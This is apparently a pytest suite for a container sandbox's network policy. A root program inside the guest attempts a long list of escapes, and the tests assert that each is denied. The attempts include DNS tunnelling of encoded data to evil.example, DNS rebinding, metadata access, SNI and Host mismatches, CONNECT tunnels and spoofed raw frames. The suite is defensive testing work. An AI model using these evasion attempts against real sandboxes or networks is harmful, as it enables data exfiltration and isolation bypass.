"""A policy with a real guest: attempts to get out, from a program in a container that is root there.

One suite, in one machine for each strategy with which the guest's packets pass the host's kernel.
"""

from __future__ import annotations

import asyncio
import errno
import json
import struct
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import dns.message
import pytest
from attrs import define

from pykata import Container, Network, NetworkEvent, Sandbox
from pykata.net.policy import resolve
from tests import frames
from tests.frames import SYN, TCP, UDP, ip4
from tests.lies import Who, spoofed
from tests.netlab import GOOD, METADATA, OTHER, THIRD, client_hello, record
from tests.policed import RESOLVER, STRATEGIES, Policed

POLICY = ["good.example", "*.wild.example", "rebound.example", "loop.example", "meta.example", f"udp:{THIRD}:9000"]
GET = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n"

# Does in the guest what it is told, one after the other, and says what came of it: bytes, addresses, or an errno.
PROGRAM = """
import json, socket, sys

def attempt(kind, address="", port=0, data="", sport=0):
    data = bytes.fromhex(data)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    if kind == "interface":
        mac = open("/sys/class/net/eth0/address").read().strip()
        return [mac, [line.split()[3] for line in open("/proc/net/arp") if address in line.split()]]
    if kind == "frame":
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            if port:        # a virtio_net_hdr comes first
                s.setsockopt(263, 15, 1)        # SOL_PACKET, PACKET_VNET_HDR
            s.bind(("eth0", 0))
            return s.send(data)
    if kind == "lookup":
        return sorted({each[4][0] for each in socket.getaddrinfo(address, None, socket.AF_INET)})
    with socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM) as s:
        s.settimeout(60)
        if sport:
            s.bind(("", sport))
        s.connect((address, port))
        s.sendall(data)
        return s.recv(65536).hex() if data else ""

for line in sys.stdin:
    try:
        result = attempt(**json.loads(line))
    except OSError as exc:
        result = {"errno": exc.errno}
    print(json.dumps(result), flush=True)
"""


@define
class Attempts:
    """A guest that tries, and what is seen of it."""

    sb: Sandbox
    box: Container
    around: Policed

    async def make(self, *attempts: Mapping[str, object]) -> list[object]:
        lines = "".join(json.dumps(each) + "\n" for each in attempts)
        done = await self.box.run(["python3", "-c", PROGRAM], input=lines, check=True, timeout=900)
        return [json.loads(line) for line in done.stdout.splitlines()]

    async def event(self, **wanted: object) -> NetworkEvent:
        async with asyncio.timeout(120):
            async for event in self.sb.network.events():
                if all(getattr(event, name) == value for name, value in wanted.items()):
                    return event
        raise AssertionError(wanted)

    async def who(self) -> Who:
        """The guest as it sees itself, when it has reached somebody through its gateway."""
        around = self.around
        (found,) = await self.make({"kind": "interface", "address": around.gateway})
        assert isinstance(found, list)
        mac, (gateway_mac,) = found
        four, six = self.sb.network.addresses
        return Who(mac=mac, guest=four, guest6=six, gateway=around.gateway, gateway6=around.gateway6,
                   gateway_mac=gateway_mac, neighbour=around.neighbour, neighbour6=around.neighbour6)


@asynccontextmanager
async def trying(
    strategy: str, path: Path, patch: pytest.MonkeyPatch, image: str, allow: Sequence[str] = POLICY
) -> AsyncIterator[Attempts]:
    patch.setattr(resolve, "RESOLV_CONF", path / "resolv.conf")
    (path / "resolv.conf").write_text(f"nameserver {RESOLVER[0]}\n")
    async with (
        STRATEGIES[strategy](path) as around,
        Sandbox(network=Network(around.strategy, allow=allow), isolation="emulated") as sb,
        sb.container(image) as box,
    ):
        yield Attempts(sb, box, around)


def tcp(address: str, port: int, data: bytes = b"") -> dict[str, object]:
    return {"kind": "tcp", "address": address, "port": port, "data": data.hex()}


def udp(address: str, port: int, data: bytes = b"?", *, sport: int = 0) -> dict[str, object]:
    return {"kind": "udp", "address": address, "port": port, "data": data.hex(), "sport": sport}


def lookup(name: str) -> dict[str, object]:
    return {"kind": "lookup", "address": name}


def sent(raw: bytes) -> dict[str, object]:
    return {"kind": "frame", "data": raw.hex()}


NO = {"errno": errno.ECONNREFUSED}
CUT = {"errno": errno.ECONNRESET}
PROHIBITED = {"errno": errno.EHOSTUNREACH}
UNKNOWN = {"errno": -2}         # EAI_NONAME
QUESTION = dns.message.make_query("c2VjcmV0.evil.example", "TXT").to_wire()

Attempt = tuple[dict[str, object], object, dict[str, object]]
"""What is tried, what the guest sees of it, and what the event says of it."""

ATTEMPTS: dict[str, Attempt] = {
    "an address": (tcp(OTHER, 443), NO, {"address": OTHER, "port": 443, "reason": "address"}),
    "another port": (tcp(GOOD, 22), NO, {"address": GOOD, "port": 22, "reason": "port"}),
    "UDP": (udp(GOOD, 9000), PROHIBITED, {"protocol": "udp", "port": 9000}),
    "QUIC": (udp(GOOD, 443, b"\xc0" + bytes(1200)), PROHIBITED, {"protocol": "udp", "port": 443}),
    "metadata": (tcp(METADATA, 80), NO, {"address": METADATA, "reason": "protected"}),
    "another name": (lookup("evil.example"), UNKNOWN, {"protocol": "dns", "name": "evil.example"}),
    "data in a name": (lookup("c2VjcmV0.good.example"), UNKNOWN, {"name": "c2vjcmv0.good.example"}),
    "a name that leads inside": (
        lookup("rebound.example"), UNKNOWN, {"reason": "rebinding", "name": "rebound.example"},
    ),
    "a name that leads to itself": (lookup("loop.example"), UNKNOWN, {"reason": "rebinding", "name": "loop.example"}),
    "a name of metadata": (lookup("meta.example"), UNKNOWN, {"reason": "rebinding", "name": "meta.example"}),
    "another resolver": (udp(OTHER, 53, QUESTION), PROHIBITED, {"reason": "resolver", "address": OTHER}),
    "another resolver by TCP": (tcp(OTHER, 53, QUESTION), NO, {"protocol": "tcp", "port": 53}),
    "TLS for another name": (tcp(GOOD, 443, client_hello("evil.example")), CUT, {"port": 443, "reason": "mismatch"}),
    "TLS without a name": (tcp(GOOD, 443, client_hello(None)), CUT, {"port": 443, "reason": "sni"}),
    "HTTP on the port of TLS": (tcp(GOOD, 443, GET % b"good.example"), CUT, {"port": 443, "reason": "tls"}),
    "HTTP for another host": (tcp(GOOD, 80, GET % b"evil.example"), CUT, {"port": 80, "reason": "mismatch"}),
    "HTTP for an address": (tcp(GOOD, 80, GET % GOOD.encode()), CUT, {"port": 80, "reason": "mismatch"}),
    "two requests": (
        tcp(GOOD, 80, GET % b"good.example" + GET % b"evil.example"), CUT, {"port": 80, "reason": "mismatch"},
    ),
    "two readings": (
        tcp(GOOD, 80, b"GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"), CUT, {"reason": "host"},
    ),
    "a tunnel": (
        tcp(GOOD, 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n"), CUT, {"reason": "connect"},
    ),
    "SSH": (tcp(GOOD, 80, b"SSH-2.0-x\r\n"), CUT, {"reason": "http"}),
    "another name in a second ClientHello": (
        tcp(GOOD, 443, client_hello() + record(20, b"\1") + client_hello("evil.example")), CUT, {"reason": "mismatch"},
    ),
    "HTTP with bare line feeds": (
        tcp(GOOD, 80, b"GET / HTTP/1.1\nHost: evil.example\n\n"), CUT, {"port": 80, "reason": "http"},
    ),
    "HTTP/2": (tcp(GOOD, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), CUT, {"port": 80, "reason": "http"}),
    "a websocket": (
        tcp(GOOD, 80, b"GET / HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\n\r\n"), CUT,
        {"reason": "upgrade"},
    ),
}  # fmt: skip


def attempts(who: Who, around: Policed) -> dict[str, Attempt]:
    """All of them."""
    def data(flags: int) -> bytes:
        return frames.tcp(who.guest, GOOD, 5000, 443, flags=flags, payload=b"data")

    def raw(address: str, protocol: int, payload: bytes) -> dict[str, object]:
        return sent(who.frame(ip4(who.guest, address, protocol, payload)))

    return {
        **ATTEMPTS,
        "IPv6": (tcp(around.six, 443), NO, {"address": around.six, "port": 443}),
        "the gateway": (tcp(who.gateway, 8080), NO, {"address": who.gateway, "port": 8080}),
        "the gateway's name server": (udp(who.gateway, 53, QUESTION), PROHIBITED, {"address": who.gateway, "port": 53}),
        "another sandbox": (tcp(who.neighbour, 80), NO, {"address": who.neighbour}),
        "a ping": (raw(OTHER, 1, frames.icmp(8, b"data")), 46, {"protocol": "icmp", "address": OTHER}),
        "GRE": (raw(OTHER, 47, bytes(20)), 54, {"protocol": "gre"}),
        "a segment without a connection": (raw(GOOD, TCP, data(16)), 58, {"reason": "state"}),
        "data in a SYN": (raw(GOOD, TCP, data(SYN)), 58, {"reason": "early"}),
        **{f"{address} of the host": (tcp(address, port), NO, {"address": address}) for address, port in around.own},
        **{what: (sent(lie), len(lie), {"reason": reason}) for what, (lie, reason) in spoofed(who).items()},
    }


def overwriting(who: Who) -> bytes:
    """A datagram for an allowed port whose checksum is to be written over the port, with which it is another one."""
    start, port = 34, 123
    body = struct.pack("!HHHH", 5555, 9000, 8 + 4, 0) + b"\0\0ab"
    words = sum(struct.unpack(f"!{len(body) // 2}H", body))
    made = struct.pack("!H", (-port - words) % 0xFFFF)
    header = struct.pack("<BBHHHH", 1, 0, start + 8, 0, start, 2)       # VIRTIO_NET_HDR_F_NEEDS_CSUM
    return header + who.frame(ip4(who.guest, THIRD, UDP, body[:8] + made + b"ab"))


@pytest.mark.parametrize("strategy", STRATEGIES)
async def test_attempts_to_get_out(
    strategy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_image: str
) -> None:
    async with trying(strategy, tmp_path, monkeypatch, demo_image) as guest:
        around = guest.around
        assert await guest.make(
            lookup("good.example"), tcp(GOOD, 443, client_hello()), udp(THIRD, 9000, sport=5555),
        ) == [[GOOD], *[b"reply".hex()] * 2]  # fmt: skip
        around.world.received.clear()
        who = await guest.who()
        await guest.make({"kind": "frame", "data": overwriting(who).hex(), "port": 1})
        tried = attempts(who, around)
        seen = await guest.make(*(attempt for attempt, _, _ in tried.values()))
        assert dict(zip(tried, seen, strict=True)) == {what: sees for what, (_, sees, _) in tried.items()}
        for _, _, said in tried.values():
            await guest.event(action="denied", **said)
        # Nothing came anywhere but what was allowed: the first of two requests, the first of two ClientHellos. And
        # nobody was asked about what isn't.
        assert set(around.world.received) <= {(GOOD, 80), (GOOD, 443), ("udp", 9000)}
        assert b"evil" not in b"".join(piece for pieces in around.world.received.values() for piece in pieces)
        assert around.visits == []
        assert {name for name, _ in around.resolver.asked} <= {*POLICY, "a.wild.example"}
        assert await guest.make(
            lookup("a.wild.example"), tcp(THIRD, 443, client_hello("a.wild.example")), tcp(GOOD, 443, client_hello()),
            tcp(GOOD, 80, GET % b"good.example"), udp(THIRD, 9000),
        ) == [[THIRD], *[b"reply".hex()] * 4]  # fmt: skip


async def test_a_policy_that_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_image: str) -> None:
    async with trying("tcfilter", tmp_path, monkeypatch, demo_image, []) as guest:
        resolv = await guest.box.run(["cat", "/etc/resolv.conf"], check=True)
        assert "nameserver 169.254.53.53" in resolv.stdout
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [UNKNOWN, NO]
        await guest.sb.network.allow("good.example", f"{OTHER}:9000")
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [[GOOD], b"reply".hex()]
        await guest.sb.network.deny(OTHER, "good.example")
        assert await guest.make(lookup("good.example"), tcp(OTHER, 9000, b"x")) == [UNKNOWN, NO]
